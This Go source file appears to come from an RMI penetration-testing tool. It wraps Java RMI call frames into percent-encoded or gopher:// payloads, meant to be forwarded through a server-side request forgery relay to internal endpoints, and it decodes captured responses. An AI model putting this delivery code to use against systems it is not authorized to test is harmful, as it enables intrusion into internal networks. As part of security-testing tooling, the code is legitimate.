// Package ssrf re-encodes call frames for delivery through an intermediary
// that forwards attacker-chosen bytes to an internal endpoint. No response
// parsing happens on this path; captured responses are decoded separately.
package ssrf

import (
	"encoding/hex"
	"fmt"
	"net"
	"strconv"
	"strings"

	"github.com/pkg/errors"

	"github.com/H4cking2theGate/remote-method-guesser/pkg/rmi"
)

// Style selects the outer framing of a wrapped frame.
type Style int

const (
	// StylePlain percent-encodes the raw byte stream for inclusion in a
	// redirect-style parameter.
	StylePlain Style = iota
	// StyleGopher renders a gopher:// URL whose payload is the byte stream.
	StyleGopher
)

// ParseStyle resolves an operator-supplied delivery style.
func ParseStyle(s string) (Style, error) {
	switch strings.ToLower(s) {
	case "", "plain", "stream":
		return StylePlain, nil
	case "gopher":
		return StyleGopher, nil
	default:
		return StylePlain, errors.Errorf("unsupported delivery style %q, supported values are plain and gopher", s)
	}
}

// Options configures framing details of the wrapped stream.
type Options struct {
	// Target endpoint embedded in gopher URLs.
	Host string
	Port int
	// DoubleEncode applies a second percent-encoding pass, for relays that
	// decode the URL once before forwarding.
	DoubleEncode bool
	// NoHandshake omits the single-op handshake prefix for relays that speak
	// it themselves.
	NoHandshake bool
}

// Wrap renders a fully encoded call frame as a byte stream acceptable to the
// selected relay style. The frame is prefixed with the single-op handshake,
// the only protocol mode deliverable in one unananswered write.
func Wrap(callFrame []byte, style Style, o Options) (string, error) {
	if len(callFrame) == 0 {
		return "", errors.New("empty call frame")
	}
	stream := callFrame
	if !o.NoHandshake {
		stream = rmi.SingleOpStream(callFrame)
	}

	encoded := percentEncode(stream)
	switch style {
	case StylePlain:
		if o.DoubleEncode {
			encoded = percentEncodeString(encoded)
		}
		return encoded, nil
	case StyleGopher:
		if o.Host == "" || o.Port == 0 {
			return "", errors.New("gopher delivery needs the target host and port")
		}
		if o.DoubleEncode {
			encoded = percentEncodeString(encoded)
		}
		return "gopher://" + net.JoinHostPort(o.Host, strconv.Itoa(o.Port)) + "/_" + encoded, nil
	default:
		return "", errors.Errorf("unknown delivery style %d", style)
	}
}

// percentEncode encodes every byte; relays must receive the stream
// byte-faithful, so nothing is left bare.
func percentEncode(b []byte) string {
	var sb strings.Builder
	sb.Grow(len(b) * 3)
	for _, c := range b {
		fmt.Fprintf(&sb, "%%%02x", c)
	}
	return sb.String()
}

func percentEncodeString(s string) string {
	return strings.ReplaceAll(s, "%", "%25")
}

// DecodeResponse turns an out-of-band captured response (hex or
// percent-encoded, once or twice) back into raw bytes for the return codec.
// A decode pass whose result is still one unbroken percent-encoded run means
// the capture was double-encoded; it is decoded once more. A literal 0x25
// byte in a single-encoded capture never triggers that, because raw protocol
// bytes do not form a pure percent pattern.
func DecodeResponse(s string) ([]byte, error) {
	s = strings.TrimSpace(s)
	if s == "" {
		return nil, errors.New("empty captured response")
	}
	if !strings.Contains(s, "%") {
		out, err := hex.DecodeString(strings.TrimPrefix(s, "0x"))
		if err != nil {
			return nil, errors.Wrap(err, "captured response is neither hex nor percent-encoded")
		}
		return out, nil
	}

	out, err := percentDecode(s)
	if err != nil {
		return nil, err
	}
	if isPercentRun(out) {
		return percentDecode(string(out))
	}
	return out, nil
}

func percentDecode(s string) ([]byte, error) {
	var out []byte
	for i := 0; i < len(s); {
		if s[i] != '%' {
			out = append(out, s[i])
			i++
			continue
		}
		if i+3 > len(s) {
			return nil, errors.Errorf("truncated percent escape at offset %d", i)
		}
		b, err := hex.DecodeString(s[i+1 : i+3])
		if err != nil {
			return nil, errors.Wrapf(err, "bad percent escape at offset %d", i)
		}
		out = append(out, b[0])
		i += 3
	}
	return out, nil
}

// isPercentRun reports whether b is entirely %xx escapes.
func isPercentRun(b []byte) bool {
	if len(b) == 0 || len(b)%3 != 0 {
		return false
	}
	for i := 0; i < len(b); i += 3 {
		if b[i] != '%' || !isHexDigit(b[i+1]) || !isHexDigit(b[i+2]) {
			return false
		}
	}
	return true
}

func isHexDigit(c byte) bool {
	switch {
	case c >= '0' && c <= '9', c >= 'a' && c <= 'f', c >= 'A' && c <= 'F':
		return true
	}
	return false
}
